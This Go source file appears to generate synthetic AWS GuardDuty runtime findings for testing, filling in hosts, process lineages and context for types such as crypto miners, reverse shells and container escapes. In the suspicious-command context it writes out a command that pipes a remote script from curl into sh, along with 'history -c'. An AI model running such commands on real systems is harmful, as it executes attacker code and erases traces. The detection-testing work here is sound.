package kinds

import (
	"strings"
	"time"
)

// container is a container as findings name it.
func (c *cast) container() object {
	return object{
		"containerRuntime": "containerd", "id": c.containerID, "name": c.workload, "image": c.containerImage, "imagePrefix": c.containerImage[:strings.LastIndex(c.containerImage, "/")],
		"securityContext": object{"privileged": false, "allowPrivilegeEscalation": false},
	}
}

func (c *cast) ecsDetails() object {
	return object{
		"name": c.ecs, "arn": c.arn("ecs", "cluster/"+c.ecs), "status": "ACTIVE", "activeServicesCount": 3, "registeredContainerInstancesCount": 0, "runningTasksCount": 9,
		"tags": tags("Environment", "production"),
		"taskDetails": object{
			"arn": c.arn("ecs", "task/"+c.ecs+"/"+c.task), "definitionArn": c.arn("ecs", "task-definition/"+c.workload+":41"), "version": "3",
			"createdAt": epoch(c.at.Add(-26 * time.Hour)), "startedAt": epoch(c.at.Add(-26*time.Hour + 20*time.Second)), "startedBy": "ecs-svc/" + c.id[:16],
			"group": "service:" + c.workload, "launchType": "FARGATE", "tags": tags("Service", c.workload), "volumes": list{}, "containers": list{c.container()},
		},
	}
}

// host fills in where something runs: an instance, a pod, a task or a container on an instance.
func (c *cast) host(resource object, kind string) {
	resource["resourceType"] = kind
	switch kind {
	case "EKSCluster":
		resource["eksClusterDetails"], resource["kubernetesDetails"] = c.clusterDetails(), object{"kubernetesWorkloadDetails": c.workloadDetails()}
		resource["instanceDetails"], resource["containerDetails"] = c.instanceDetails(), c.container()
		c.named = c.cluster
	case "ECSCluster":
		resource["ecsClusterDetails"], resource["containerDetails"] = c.ecsDetails(), c.container()
		c.named = c.ecs
	case "Container":
		resource["containerDetails"], resource["instanceDetails"] = c.container(), c.instanceDetails()
		c.named = c.workload
	default:
		resource["instanceDetails"] = c.instanceDetails()
		c.named = c.instance
	}
}

// hostKind is where it runs, by the seed.
func (c *cast) hostKind() string {
	return []string{"Container", "Instance", "EKSCluster", "ECSCluster"}[c.seed%4]
}

// A program is what ran.
type program struct{ name, path, parent string }

// program is the process of the finding.
func (c *cast) program() program {
	switch {
	case c.is("CryptoMiner", "Bitcoin"):
		return program{"kworkerd", c.choose("/tmp/.cache/kworkerd", "/opt/bench/cpuminer"), "bash"}
	case c.is("ReverseShell", "SuspiciousShell"):
		return program{"bash", "/usr/bin/bash", c.choose("java", "sshd")}
	case c.is("SuspiciousCommand"):
		return program{"bash", "/usr/bin/bash", c.choose("nginx", "sshd")}
	case c.is("SuspiciousTool"):
		return program{"nmap", "/usr/bin/nmap", "bash"}
	case c.is("MaliciousFile"):
		return program{"kworkerd", c.path, "bash"}
	case c.is("NewBinary", "NewLibrary"):
		return program{c.choose("xsync", "checkout-api"), c.choose("/var/tmp/xsync", "/srv/checkout/checkout-api"), c.choose("sh", "containerd-shim")}
	case c.is("Kernel"):
		return program{"insmod", "/usr/sbin/insmod", "bash"}
	case c.is("SensitiveFile"):
		return program{"tee", "/usr/bin/tee", "bash"}
	case c.is("DockerSocket", "Runc", "CGroups", "MountsHost"):
		return program{"sh", "/bin/sh", "containerd-shim"}
	default:
		return program{c.choose("xsync", "curl"), c.choose("/var/tmp/xsync", "/usr/bin/curl"), "bash"}
	}
}

func (c *cast) process(p program, pid int) object {
	started := c.at.Add(-3 * time.Minute)
	uid := 33 // www-data
	if !c.hostile {
		uid = 1000
	}
	return object{
		"name": p.name, "executablePath": p.path, "executableSha256": c.hash, "namespacePid": pid % 1000, "pwd": "/", "pid": pid, "startTime": epoch(started),
		"uuid": c.uuidOf(c.id), "parentUuid": c.uuidOf(c.detector), "user": c.choose("www-data", "ec2-user"), "userId": uid, "euid": uid,
		"lineage": list{
			object{"startTime": epoch(started.Add(-time.Minute)), "namespacePid": 41, "userId": uid, "name": p.parent, "pid": pid - 7, "uuid": c.uuidOf(c.detector), "executablePath": "/usr/bin/" + p.parent, "euid": uid, "parentUuid": c.uuidOf(c.hash)},
			object{"startTime": epoch(c.at.AddDate(0, 0, -9)), "namespacePid": 1, "userId": 0, "name": "systemd", "pid": 1, "uuid": c.uuidOf(c.hash), "executablePath": "/usr/lib/systemd/systemd", "euid": 0, "parentUuid": c.uuidOf(c.hash)},
		},
	}
}

// context is what the agent saw beside the process, by type.
func (c *cast) context() object {
	other := c.process(program{"sshd", "/usr/sbin/sshd", "systemd"}, 812)
	delete(other, "lineage")
	switch {
	case c.is("FilelessExecution"):
		return object{"fileSystemType": "tmpfs", "flags": list{"MFD_CLOEXEC"}}
	case c.is("KernelModule"):
		return object{"moduleName": "netfilter_helper", "moduleFilePath": "/var/tmp/netfilter_helper.ko", "moduleSha256": c.hash}
	case c.is("ProcessInjection"):
		return object{"targetProcess": other, "memoryRegions": list{"7f0000000000-7f0000001000 rwxp"}}
	case c.is("SensitiveFileModified"):
		return object{"fileOperation": "Write", "filePath": c.choose("/etc/ld.so.preload", "/etc/ssh/sshd_config"), "relatedFilePaths": list{"/etc/passwd"}, "modifiedAt": epoch(c.at)}
	case c.is("SuspiciousCommand"):
		return object{"commandLineExample": c.choose("curl -fsSL http://"+c.remote.ip+"/i.sh | sh", "history -c")}
	case c.is("SuspiciousTool"):
		return object{"toolName": "nmap", "toolCategory": "Network Scanner"}
	case c.is("MaliciousFileExecuted", "CryptoMinerExecuted"):
		return object{"threatFilePath": c.program().path, "modifyingProcess": other, "modifiedAt": epoch(c.at.Add(-4 * time.Minute))}
	case c.is("NewBinaryExecuted"):
		return object{"modifyingProcess": other, "modifiedAt": epoch(c.at.Add(-4 * time.Minute))}
	case c.is("NewLibraryLoaded"):
		return object{"libraryPath": "/var/tmp/libsync.so", "modifyingProcess": other, "modifiedAt": epoch(c.at.Add(-4 * time.Minute))}
	case c.is("ReverseShell"):
		return object{"addressFamily": "AF_INET", "ianaProtocolNumber": 6}
	case c.is("CGroups"):
		return object{"releaseAgentPath": "/sys/fs/cgroup/rdma/release_agent"}
	case c.is("MountsHostDirectory"):
		return object{"mountSource": "/dev/nvme0n1p1", "mountTarget": "/host", "fileSystemType": "ext4", "flags": list{"MS_BIND"}}
	case c.is("DockerSocket"):
		return object{"socketPath": "/var/run/docker.sock"}
	case c.is("Runc"):
		return object{"runcBinaryPath": "/usr/bin/runc"}
	default:
		return object{}
	}
}

// runtime is a finding of the agent: a process, what it did, and sometimes where it spoke to.
func (c *cast) runtime(resource, service object) {
	c.host(resource, c.hostKind())
	details := object{"process": c.process(c.program(), 4711)}
	if context := c.context(); len(context) > 0 {
		details["context"] = context
	}
	service["runtimeDetails"], service["resourceRole"] = details, "ACTOR"
	info := service["additionalInfo"].(object)
	info["agentDetails"] = object{"agentVersion": "1.7.1"}
	switch {
	case c.isDNS():
		service["action"] = c.dnsRequest()
		info["domain"] = c.asked()
		c.threats(service, c.threatName())
	case c.is("C&C", "BitcoinTool", "BlackholeTraffic", "DropPoint", "Tor"):
		service["action"] = c.network()
		c.threats(service, c.threatName())
	case c.is("ReverseShell"):
		service["action"] = c.network()
	default:
		service["action"] = object{} // as GuardDuty sends it
		if c.is("MaliciousFile", "CryptoMiner") {
			c.threats(service, c.malware)
			service["evidence"].(object)["threatIntelligenceDetails"].(list)[0].(object)["threatFileSha256"] = c.hash
		}
	}
}
